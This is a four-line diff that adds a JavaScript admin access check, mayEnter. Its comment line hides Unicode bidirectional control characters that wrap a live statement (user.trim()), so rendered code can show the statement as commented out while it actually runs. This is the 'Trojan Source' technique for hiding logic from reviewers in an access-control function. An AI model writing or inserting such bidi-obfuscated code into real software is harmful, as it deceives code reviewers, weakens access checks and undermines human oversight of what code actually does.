@@ -1,0 +1,4 @@
+export const mayEnter = (user, admins) => {
+  /* only admins may enter ‮ ⁦*/ const name = user.trim(); /*⁩ ⁦ */
+  return admins.includes(name);
+};
